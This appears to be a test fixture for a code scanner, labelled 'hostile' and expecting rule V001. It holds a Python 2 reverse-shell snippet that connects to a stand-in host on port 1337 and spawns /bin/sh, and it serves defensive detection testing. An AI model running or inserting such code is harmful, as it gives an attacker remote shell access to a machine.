# label: hostile
# expect: V001
# note: A payload in Python 2's syntax: today it does not parse, so no other rule can see into it.
# allow: V201 V301 V501
import socket, subprocess, os
print "connecting"
s = socket.socket()
s.connect(("192.0.2.4", 1337))
exec "import pty; pty.spawn('/bin/sh')"
